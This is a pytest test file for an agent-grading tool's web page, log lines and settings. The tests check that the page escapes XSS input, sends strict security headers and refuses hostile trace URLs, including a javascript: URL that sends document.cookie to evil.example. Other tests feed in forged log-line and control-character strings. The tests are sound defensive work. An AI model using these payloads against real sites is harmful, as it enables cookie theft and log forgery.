"""What a person sees of the grades without a browser: which runs the grades page keeps, how it filters and
orders them, what its HTML shows (served by a real aiohttp server), the `ui:` settings, and the log lines
about failing runs (with an injected clock)."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import logging
from typing import Any

import aiohttp
import pytest
import yaml
from aiohttp import web

from otelgrade.config import parse_config
from otelgrade.core.errors import ConfigError
from otelgrade.core.metrics import Metrics
from otelgrade.core.results import Grade, Outcome
from otelgrade.core.settings import UiSettings
from otelgrade.core.trajectory import Handoff, ToolCall, Trajectory, Unread
from otelgrade.export.exporter import Exporter
from otelgrade.export.ui import RunLog, RunStore, add_grade_pages
from otelgrade.export.ui.runlog import failing_run_line
from otelgrade.export.ui.store import GradeQuery, select
from otelgrade.grade.gathering import GradedRun
from otelgrade.grade.grading import Grading, Suite
from tests.paths import REPO


def trace(n: int) -> str:
    return f"{n:032x}"


def grade(n: int, outcome: Outcome = "pass", grader: str = "budget", at: float = 0.0, **fields: Any) -> Grade:
    return Grade(
        trace_id=trace(n),
        span_id=f"{n:016x}",
        suite=fields.pop("suite", "travel"),
        grader=grader,
        score={"pass": 1.0, "fail": 0.0}.get(outcome),
        passed=outcome == "pass",
        outcome=outcome,
        rationale=fields.pop("rationale", f"{grader} says {outcome}"),
        agent_name=fields.pop("agent_name", "travel_agent"),
        service_name=fields.pop("service_name", "travel-service"),
        time_unix=at or 1_700_000_000.0 + n,
        **fields,
    )


def trajectory(n: int, **fields: Any) -> Trajectory:
    return Trajectory(trace_id=trace(n), span_id=f"{n:016x}", agent_name="travel_agent", **fields)


# --- which runs are kept -------------------------------------------------------------------------


def test_the_oldest_passing_run_goes_first_and_failing_runs_stay() -> None:
    store = RunStore(keep=3)
    for n, outcome in ((1, "fail"), (2, "pass"), (3, "pass")):
        store.add_run(trajectory(n))
        store.write([grade(n, outcome)])
    store.add_run(trajectory(4))
    store.write([grade(4)])
    assert [len(store.runs(trace(n))) for n in (1, 2, 3, 4)] == [1, 0, 1, 1]

    store.write([grade(3, "fail", grader="helpful")])  # a judge's late verdict makes run 3 failing
    for n in (5, 6):
        store.add_run(trajectory(n))
    assert [len(store.runs(trace(n))) for n in (1, 3, 4, 5, 6)] == [1, 1, 0, 0, 1]  # passing runs went first
    assert len(store) == 3

    store.write([grade(6, "fail")])
    store.add_run(trajectory(7))  # only failing runs are held: the oldest makes room
    assert [len(store.runs(trace(n))) for n in (1, 3, 6, 7)] == [0, 1, 1, 1]


def test_a_late_grade_of_a_let_go_run_is_kept_without_its_trajectory() -> None:
    store = RunStore(keep=1)
    store.add_run(trajectory(1))
    store.add_run(trajectory(2))
    store.write([grade(1, "fail", grader="helpful")])
    [run] = store.runs(trace(1))
    assert run.trajectory is None and [g.grader for g in run.grades] == ["helpful"]


def test_grading_hands_over_only_runs_some_suite_grades_before_their_grades() -> None:
    store = RunStore(keep=10)
    seen: list[str] = []

    def on_run(t: Trajectory) -> None:
        seen.append(t.trace_id)
        store.add_run(t)

    check = Suite("travel", {"agent_name": "^travel_agent$"})
    grading = Grading([check], Exporter(Metrics(), [store]), on_run=on_run)
    grading.grade(trajectory(1))
    grading.grade(Trajectory(trace_id=trace(2), span_id="0" * 16, agent_name="other"))
    assert seen == [trace(1)] and store.runs(trace(1)) and not store.runs(trace(2))


# --- filters and order ---------------------------------------------------------------------------


def test_failing_first_then_errors_newest_first_within_each() -> None:
    grades = [grade(1, "fail"), grade(2, "pass"), grade(3, "error"), grade(4, "fail"), grade(5, "skipped")]
    shown, total = select(grades, GradeQuery())
    assert [g.trace_id for g in shown] == [trace(n) for n in (4, 1, 3, 5, 2)] and total == 5
    shown, _ = select(grades, GradeQuery(order="newest", limit=2))
    assert [g.trace_id for g in shown] == [trace(5), trace(4)]


def test_filters_match_exactly_and_an_empty_value_means_any() -> None:
    grades = [grade(1, "fail", agent_name="a"), grade(2, "fail", agent_name="b", grader="helpful"), grade(3)]
    query = GradeQuery.from_params({"outcome": "fail", "agent": "b", "suite": ""})
    assert [g.trace_id for g in select(grades, query)[0]] == [trace(2)]
    assert select(grades, GradeQuery.from_params({"grader": "helpful"}))[1] == 1


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"outcome": "failed"}, "outcome must be one of pass, fail, error, skipped, not 'failed'"),
        ({"status": "fail"}, "unknown parameter 'status'"),
        ({"limit": "all"}, "limit must be a whole number"),
        ({"limit": "0"}, "limit must be between 1 and 5000"),
        ({"order": "oldest"}, "order must be one of failing, newest"),
    ],
)
def test_a_bad_filter_says_what_is_wrong(params: dict[str, str], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        GradeQuery.from_params(params)


# --- the HTML ------------------------------------------------------------------------------------


async def _get(store: RunStore, settings: UiSettings, *paths: str) -> list[tuple[int, str, dict[str, str]]]:
    app = web.Application()
    add_grade_pages(app, store, settings)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    try:
        async with aiohttp.ClientSession() as session:
            out = []
            for path in paths:
                async with session.get(f"http://127.0.0.1:{port}{path}") as response:
                    out.append((response.status, await response.text(), dict(response.headers)))
            return out
    finally:
        await runner.cleanup()


def test_the_run_page_escapes_what_the_agent_said_and_explains_a_missing_run() -> None:
    store = RunStore(keep=5)
    store.add_run(
        trajectory(
            1,
            input="<script>alert(1)</script>",
            tool_calls=[ToolCall(name="delete_account", arguments='{"user": "<b>x</b>"}', result=None, error=True)],
            lacks=["output"],
        )
    )
    store.write([grade(1, "fail", rationale="called <delete_account>")])
    settings = UiSettings(trace_url="https://langfuse.example/project/p1/traces/{trace_id}")
    (status, page, _), (missing, gone, _), (bad, problem, _) = asyncio.run(
        _get(store, settings, f"/runs/{trace(1)}", f"/runs/{trace(9)}", "/?outcome=nope")
    )
    assert status == 200
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "called &lt;delete_account&gt;" in page
    assert "&#34;user&#34;: &#34;&lt;b&gt;x&lt;/b&gt;&#34;" in page  # arguments shown as indented JSON, escaped
    assert 'class="tool failed"' in page and "This trace does not carry: output" in page
    assert f'href="https://langfuse.example/project/p1/traces/{trace(1)}"' in page
    assert missing == 404 and "No graded run of this trace is held" in gone and "ui.keep" in gone
    assert bad == 400 and "outcome must be one of" in problem


def test_the_run_page_shows_a_request_s_agents_handoffs_and_what_was_not_read() -> None:
    store = RunStore(keep=5)
    store.add_run(
        trajectory(
            1,
            agents=["triage_agent", "account_agent"],
            handoffs=[Handoff(from_agent="triage_agent", to_agent="account_agent", step=1)],
            tool_calls=[
                ToolCall(name="delete_account", agent="account_agent", step=2, witnesses=["request"]),
                ToolCall(name="lookup", agent="account_agent", step=2, witnesses=["request", "execution"]),
            ],
            unread=[Unread(scope="acme.agents", spans=2, names=["acme tool: refund"])],
            lacks=["tool_calls", "tool_arguments", "tool_results"],
        )
    )
    store.write([grade(1, "skipped", grader="safe")])
    ((status, page, _),) = asyncio.run(_get(store, UiSettings(), f"/runs/{trace(1)}"))
    assert status == 200
    assert "A request handled by 2 agents: triage_agent, account_agent" in page
    assert "step 1: triage_agent → account_agent" in page
    assert "scope `acme.agents`: 2 span(s) not understood, such as `acme tool: refund`" in page
    assert "never pass" in page and "by account_agent" in page
    assert page.count("Only the model's request shows this call") == 1  # delete_account, not lookup


def test_every_answer_forbids_script_framing_and_sniffing() -> None:
    store = RunStore(keep=5)
    store.add_run(trajectory(1))
    store.write([grade(1, "fail")])
    answers = asyncio.run(_get(store, UiSettings(), "/", f"/runs/{trace(1)}", "/api/grades", "/?outcome=nope", "/x"))
    assert [status for status, _, _ in answers] == [200, 200, 200, 400, 404]
    for _, _, headers in answers:
        policy = dict(part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";"))
        assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'"
        assert "script-src" not in policy and "unsafe-inline" not in policy["style-src"]
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"
        assert headers["Referrer-Policy"] == "no-referrer"
    page = answers[0][1]
    style = page[page.index("<style>") + len("<style>") : page.index("</style>")]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy["style-src"] == f"'sha256-{digest}'"  # the page's own style sheet, and only it, applies


# --- the ui: settings ----------------------------------------------------------------------------


def test_ui_settings_are_read_and_a_bad_trace_url_is_named() -> None:
    config = parse_config({"ui": {"keep": 50, "trace_url": "http://jaeger:16686/trace/{trace_id}"}})
    assert config.ui.keep == 50 and config.ui.trace_link("ab" * 16) == f"http://jaeger:16686/trace/{'ab' * 16}"
    with pytest.raises(ConfigError, match=r"ui\.trace_url: .*unknown placeholder \{traceid\}"):
        parse_config({"ui": {"trace_url": "http://jaeger:16686/trace/{traceid}"}})
    with pytest.raises(ConfigError, match=r"ui\.trace_url: .*needs \{trace_id\}"):
        parse_config({"ui": {"trace_url": "http://jaeger:16686/search"}})
    with pytest.raises(ConfigError, match=r"ui\.keep"):
        parse_config({"ui": {"keep": 0}})


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.domain)//{trace_id}",
        "JavaScript:fetch('//evil.example/'+document.cookie)//{trace_id}",
        " javascript:alert(1)//{trace_id}",
        "data:text/html,<script>alert(1)</script>{trace_id}",
        "//jaeger:16686/trace/{trace_id}",
        "jaeger:16686/trace/{trace_id}",
    ],
)
def test_a_trace_url_that_is_not_http_is_refused_when_the_config_is_read(url: str) -> None:
    with pytest.raises(ConfigError, match=r"ui\.trace_url: .*must start with http:// or https://"):
        parse_config({"ui": {"trace_url": url}})
    assert parse_config({"ui": {"trace_url": "HTTPS://tempo.example/{trace_id}"}}).ui.trace_url


# --- the log lines -------------------------------------------------------------------------------


def graded(runlog: RunLog, grades: list[Grade]) -> None:
    """The grades as the exporter hands them on: one by one, then each run's together."""
    runlog.write(grades)
    for key in dict.fromkeys((g.trace_id, g.span_id) for g in grades):
        run = tuple(g for g in grades if (g.trace_id, g.span_id) == key)
        runlog.write_run(GradedRun(Trajectory(trace_id=key[0], span_id=key[1]), run))


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_one_line_per_failing_run_rate_limited_and_a_summary(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "otelgrade.runs")
    clock = Clock()
    runlog = RunLog(UiSettings(log_failures=2, log_summary=60, trace_url="http://tempo/{trace_id}"), clock)

    graded(runlog, [grade(1, "fail", rationale="errors 1\n over max 0"), grade(1, "fail", grader="helpful"), grade(1)])
    for n in (2, 3, 4):
        clock.now += 1
        graded(runlog, [grade(n, "fail"), grade(n, "error", grader="helpful")])
    lines = [r.getMessage() for r in caplog.records]
    assert lines == [
        f"run failed: trace_id={trace(1)} span_id={1:016x} service=travel-service agent=travel_agent"
        " | suite=travel grader=budget: errors 1 over max 0; suite=travel grader=helpful: helpful says fail"
        f" | trace: http://tempo/{trace(1)}",
        f"run failed: trace_id={trace(2)} span_id={2:016x} service=travel-service agent=travel_agent"
        f" | suite=travel grader=budget: budget says fail | trace: http://tempo/{trace(2)}",
    ]
    assert all(r.levelname == "INFO" for r in caplog.records)

    caplog.clear()
    clock.now += 57  # the summary is due 60 s after the start; the limit's minute is over
    runlog.tick()
    graded(runlog, [grade(5, "fail")])
    runlog.tick()  # not due again yet
    lines = [r.getMessage() for r in caplog.records]
    assert lines[0] == (
        "graded 4 run(s) in the last 60s (grades: 1 pass, 5 fail, 3 error, 0 skipped); 4 run(s) failed, "
        "2 of them not logged one by one (ui.log_failures)"
    )
    assert lines[1].startswith(f"run failed: trace_id={trace(5)}")
    assert lines[1].endswith(
        "(2 more failing run(s) not logged: ui.log_failures is 2 a minute; the grades page lists them all)"
    )
    assert len(lines) == 2

    caplog.clear()
    clock.now += 60
    runlog.tick()
    runlog.tick()
    assert [r.getMessage() for r in caplog.records] == [
        "graded 1 run(s) in the last 60s (grades: 0 pass, 1 fail, 0 error, 0 skipped); 1 run(s) failed"
    ]


def test_a_run_whose_judge_fails_after_its_code_graders_is_one_failing_run_in_the_summary(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A judge answers after the run's code graders were exported: the summary counts runs, not batches."""
    caplog.set_level(logging.INFO, "otelgrade.runs")
    clock = Clock()
    runlog = RunLog(UiSettings(log_summary=60), clock)
    runlog.write([grade(1, "fail"), grade(2, "pass")])
    runlog.write([grade(1, "fail", grader="helpful")])  # run 1's judge, later
    runlog.write([grade(2, "fail", grader="helpful")])  # run 2's judge, later
    clock.now += 60
    runlog.tick()
    assert caplog.records[-1].getMessage() == (
        "graded 2 run(s) in the last 60s (grades: 1 pass, 3 fail, 0 error, 0 skipped); 2 run(s) failed"
    )


def test_nothing_graded_means_no_summary_and_zero_turns_lines_off(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "otelgrade.runs")
    clock = Clock()
    runlog = RunLog(UiSettings(log_failures=0, log_summary=0), clock)
    graded(runlog, [grade(1, "fail")])
    clock.now += 3600
    runlog.tick()
    runlog.close()
    assert caplog.records == []

    quiet = RunLog(UiSettings(), clock)
    clock.now += 3600
    quiet.tick()
    quiet.close()
    assert caplog.records == []


def test_names_and_reasons_sent_by_agents_cannot_break_a_log_line(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "otelgrade.runs")
    forged = "\n2030-01-01 00:00:00,000 ERROR otelgrade: forged"
    hostile = grade(
        1,
        "fail",
        service_name=f"svc{forged}",
        agent_name="agent\r\x1b[31m\u2028\x85",
        rationale="called \x07delete\x00account\nand more",
    )
    graded(RunLog(UiSettings(), Clock()), [hostile])
    [line] = [r.getMessage() for r in caplog.records]
    assert line == (
        f"run failed: trace_id={trace(1)} span_id={1:016x} service=svc\\n2030-01-01 00:00:00,000 ERROR otelgrade: "
        "forged agent=agent\\r\\x1b[31m\\u2028\\x85"
        " | suite=travel grader=budget: called \\x07delete\\x00account and more"
    )
    assert line.isprintable()


def test_a_failing_conversation_is_said_to_be_one(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "otelgrade.runs")
    turns = grade(1, "fail", grader="resolved", level="conversation", conversation_id="conv-7")
    graded(RunLog(UiSettings(), Clock()), [turns])
    [line] = [r.getMessage() for r in caplog.records]
    assert line.startswith(f"conversation failed: trace_id={trace(1)} span_id={1:016x} conversation_id=conv-7 ")


def test_a_long_rationale_is_cut_in_the_log_but_not_on_the_page() -> None:
    long = grade(1, "fail", rationale="x" * 1000)
    store = RunStore(keep=1)
    store.write([long])
    assert store.grades()[0].rationale == "x" * 1000
    assert failing_run_line([long]).endswith("grader=budget: " + "x" * 299 + "…")


# --- from Grafana to the page --------------------------------------------------------------------

GRAFANA = REPO / "collector_config" / "grafana"


def test_the_dashboard_links_failed_grades_to_the_page() -> None:
    """The links Grafana builds from the failed-grades panel (series) and its exemplars open the right pages."""
    board = json.loads((GRAFANA / "dashboards" / "otelgrade.json").read_text())
    assert "otelgrade_url" in {v["name"] for v in board["templating"]["list"]}
    failed = next(
        p for p in board["panels"] if any('outcome="fail"' in t.get("expr", "") for t in p.get("targets", []))
    )
    [series_link] = failed["fieldConfig"]["defaults"]["links"]
    sources = yaml.safe_load((GRAFANA / "provisioning" / "datasources" / "otelgrade.yaml").read_text())
    prometheus = next(s for s in sources["datasources"] if s["type"] == "prometheus")
    exemplar_url = next(d["url"] for d in prometheus["jsonData"]["exemplarTraceIdDestinations"] if "url" in d)
    exemplar_url = exemplar_url.replace("$$", "$")  # Grafana's escape for a literal `$` in provisioning files

    def grafana(url: str, **values: str) -> str:
        """Interpolate as Grafana does, with the otelgrade base URL left out (the test server's paths)."""
        url = url.replace("${otelgrade_url}", "")
        for name, value in values.items():
            url = url.replace("${" + name + "}", value)
        return url

    store = RunStore(keep=5)
    store.add_run(trajectory(1))
    store.write([grade(1, "fail", grader="no_tool_errors", rationale="errors 1 over max 0"), grade(2, "fail")])
    paths = (
        grafana(series_link["url"], **{"__field.labels.suite": "travel", "__field.labels.grader": "no_tool_errors"}),
        grafana(exemplar_url, **{"__value.raw": trace(1)}),
    )
    (status, listed, _), (run_status, run_page, _) = asyncio.run(_get(store, UiSettings(), *paths))
    assert status == 200 and "errors 1 over max 0" in listed and "budget says fail" not in listed
    assert run_status == 200 and f"Trace <code>{trace(1)}</code>" in run_page


def test_a_run_is_held_without_megabytes_of_attributes() -> None:
    """Runs are kept by count: a span carrying a 1 MB attribute must not pin 1 MB per kept run."""
    store = RunStore(keep=10)
    store.add_run(trajectory(1, attributes={"service.name": "svc", "payload": "x" * 1_000_000}))
    (held,) = store.runs(trace(1))
    assert held.trajectory is not None
    assert held.trajectory.attributes["service.name"] == "svc"
    assert (
        len(held.trajectory.attributes["payload"]) < 3000
        and "more characters not kept" in held.trajectory.attributes["payload"]
    )
